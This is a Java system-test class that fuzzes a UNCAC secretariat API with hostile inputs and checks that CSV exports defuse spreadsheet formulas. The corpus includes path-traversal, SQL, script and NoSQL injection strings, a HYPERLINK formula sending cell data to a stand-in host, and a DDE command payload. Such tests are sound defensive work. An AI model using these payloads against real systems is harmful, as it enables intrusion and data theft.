package org.uncac.systemtests;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Bad input at scale: a generated corpus of malformed and hostile bodies, content types, query parameters and
 * path ids sent to every write and read endpoint through the gateway. Never a 5xx, never a stack trace.
 * The corpus is generated from a fixed seed, so a failure is reproducible.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class HostileInputContract {

    private static final List<String[]> WRITES = List.of(
            new String[] {"POST", "/api/directory/states-parties"},
            new String[] {"POST", "/api/directory/states-parties/AUT/renamings"},
            new String[] {"POST", "/api/directory/authorities"},
            new String[] {"POST", "/api/directory/authorities/{id}/updates"},
            new String[] {"POST", "/api/directory/authorities/{id}/withdrawal"},
            new String[] {"POST", "/api/notes-verbales"},
            new String[] {"PUT", "/api/notes-verbales/{id}"},
            new String[] {"POST", "/api/notes-verbales/{id}/issuance"},
            new String[] {"POST", "/api/notes-verbales/{id}/responses"},
            new String[] {"POST", "/api/notes-verbales/{id}/reminders"},
            new String[] {"POST", "/api/notes-verbales/{id}/deadline-extensions"},
            new String[] {"POST", "/api/notes-verbales/{id}/closure"},
            new String[] {"POST", "/api/meetings"},
            new String[] {"PUT", "/api/meetings/{id}/provisional-agenda"},
            new String[] {"POST", "/api/meetings/{id}/agenda-adoption"},
            new String[] {"POST", "/api/meetings/{id}/report-adoption"},
            new String[] {"POST", "/api/meetings/{id}/sessions"},
            new String[] {"PUT", "/api/meetings/{id}/attendance"},
            new String[] {"POST", "/api/meetings/{id}/silence-procedure"},
            new String[] {"POST", "/api/recommendations"},
            new String[] {"POST", "/api/recommendations/{id}/follow-up"},
            new String[] {"POST", "/api/recommendations/{id}/supersession"},
            new String[] {"POST", "/api/recommendations/proposals"});

    private static final List<String> READS = List.of(
            "/api/directory/states-parties?asAt={v}", "/api/directory/states-parties?recordedBy={v}",
            "/api/directory/authorities?stateCode={v}&type={v}&language={v}", "/api/directory/authorities/{v}",
            "/api/directory/authorities/{v}/history", "/api/directory/coverage?asAt={v}",
            "/api/directory/coverage/series?from={v}&to={v}&step={v}", "/api/directory/authorities/stale?months={v}",
            "/api/directory/authorities/export?asAt={v}", "/api/notes-verbales/{v}",
            "/api/notes-verbales/{v}/response-rate?asAt={v}", "/api/notes-verbales/{v}/non-respondents?asAt={v}",
            "/api/notes-verbales/{v}/responses", "/api/notes-verbales/{v}/response-curve?to={v}",
            "/api/notes-verbales/ledger/{v}", "/api/notes-verbales/all-states-parties?asAt={v}",
            "/api/meetings?from={v}&to={v}&status={v}", "/api/meetings/{v}", "/api/meetings/{v}/agenda/diff?from={v}&to={v}",
            "/api/meetings/next?body={v}", "/api/meetings/attendance/{v}", "/api/recommendations?meetingId={v}&status={v}&asAt={v}",
            "/api/recommendations/{v}?asAt={v}", "/api/recommendations/progress-note?meeting={v}&asAt={v}&format={v}");

    private static final List<String> VALUES = List.of("", "x", "2017-02-30", "31-12-2019", "-1", "0", "99999999999999999999",
            "null", "%00", "..%2F..%2Fetc%2Fpasswd", "'%20OR%201=1", "%3Cscript%3E", "AUT", "aut", "2017-01-17T00:00:00",
            "9999-12-31", "0000-01-01", "%F0%9F%98%80", "true", "%7B%7D");

    private static final List<String> BODIES = List.of("", "null", "[]", "{}", "{\"a\":", "\"text\"", "12", "true",
            "{\"code\": {\"$ne\": null}}", "{\"date\": \"2017-02-30\"}", "{\"date\": 20170101}", "{\"effective\": []}",
            "{\"items\": \"not a list\"}", "{\"items\": [null]}", "{\"answers\": {\"q1\": {\"nested\": 1}}}",
            "{\"stateCode\": \"AUT\", \"receivedOn\": \"2017-02-10\", \"substantive\": \"maybe\"}",
            "{\"ordinal\": 1e400}", "{\"ordinal\": -5}", "{\"name\": \"\\u0000\"}", "{\"addressees\": [1, 2]}",
            "{\"contacts\": [{\"email\": 5}]}", "{\"questions\": [{\"id\": null}]}", "{" + "\"a\":{".repeat(200) + "}".repeat(201));

    private WebTestClient gateway;
    private String secretariat;

    protected abstract RunningSuite suite();

    @BeforeAll
    void connect() {
        gateway = Api.client(suite().gatewayUrl());
        secretariat = Api.token(gateway, "secretariat", "secretariat-secret");
    }

    @Test
    void writesNeverAnswer5xxNorShowTheInside() {
        Random random = new Random(20171117);
        List<String> failures = new ArrayList<>();
        for (String[] endpoint : WRITES) {
            for (String body : BODIES) {
                String path = endpoint[1].replace("{id}", random.nextBoolean() ? "no-such-id" : "%2e%2e");
                MediaType type = random.nextInt(6) == 0 ? MediaType.TEXT_PLAIN : MediaType.APPLICATION_JSON;
                check(gateway.method(HttpMethod.valueOf(endpoint[0])).uri(path).headers(h -> h.setBearerAuth(secretariat))
                        .contentType(type).bodyValue(body).exchange().expectBody(String.class).returnResult(),
                        endpoint[0] + " " + path + " " + type + " " + abbreviate(body), failures);
            }
        }
        assertThat(failures).isEmpty();
    }

    @Test
    void readsNeverAnswer5xxNorShowTheInside() {
        Random random = new Random(20190531);
        List<String> failures = new ArrayList<>();
        for (String read : READS) {
            for (int i = 0; i < 8; i++) {
                String uri = read;
                while (uri.contains("{v}")) {
                    uri = uri.replaceFirst("\\{v}", java.util.regex.Matcher.quoteReplacement(VALUES.get(random.nextInt(VALUES.size()))));
                }
                String target = uri;
                EntityExchangeResult<String> result = gateway.get().uri(java.net.URI.create(suite().gatewayUrl() + target))
                        .headers(h -> h.setBearerAuth(secretariat)).exchange().expectBody(String.class).returnResult();
                check(result, "GET " + target, failures);
            }
        }
        assertThat(failures).isEmpty();
    }

    @Test
    void aFormulaInAnAnswerOrANameIsExportedAsTextNotAsALiveFormula() {
        String formula = "=HYPERLINK(\"http://x.invalid/?\"&A2,\"open\")";
        String note = (String) post("/api/notes-verbales", Map.of("reference", "CU 2031/1", "subject", "Exports",
                "addressees", List.of("AUT"), "questions", List.of(Map.of("id", "q1", "text", "Anything?"))))
                .expectStatus().isCreated().expectBody(Map.class).returnResult().getResponseBody().get("id");
        post("/api/notes-verbales/" + note + "/issuance", Map.of("date", "2024-01-10")).expectStatus().isOk();
        post("/api/notes-verbales/" + note + "/responses", Map.of("stateCode", "AUT", "receivedOn", "2024-01-20",
                "substantive", true, "answers", Map.of("q1", formula))).expectStatus().isCreated();
        post("/api/directory/authorities", Map.of("stateCode", "AUT", "type", "PREVENTION", "name", "@SUM(1+1)*cmd|' /C calc'!A0",
                "effective", "2031-01-01")).expectStatus().isCreated();
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
            assertThat(csv("/api/notes-verbales/" + note + "/responses/export"))
                    .contains("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A2,\"\"open\"\")\"").doesNotContain(",=HYPERLINK");
            assertThat(csv("/api/directory/authorities/export?asAt=2031-01-02&stateCode=AUT"))
                    .contains("'@SUM(1+1)*cmd|' /C calc'!A0").doesNotContain(",@SUM");
        });
    }

    private WebTestClient.ResponseSpec post(String uri, Object body) {
        return gateway.post().uri(uri).headers(h -> h.setBearerAuth(secretariat)).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(body).exchange();
    }

    private String csv(String uri) {
        return gateway.get().uri(uri).headers(h -> h.setBearerAuth(secretariat)).exchange().expectStatus().isOk()
                .expectBody(String.class).returnResult().getResponseBody();
    }

    private static void check(EntityExchangeResult<String> result, String what, List<String> failures) {
        String body = result.getResponseBody() == null ? "" : result.getResponseBody();
        if (result.getStatus().is5xxServerError() || body.contains("Exception") || body.contains("\tat ")) {
            failures.add(result.getStatus().value() + " " + what + " -> " + abbreviate(body));
        }
    }

    private static String abbreviate(String text) {
        return text.length() > 120 ? text.substring(0, 120) + "…" : text;
    }
}
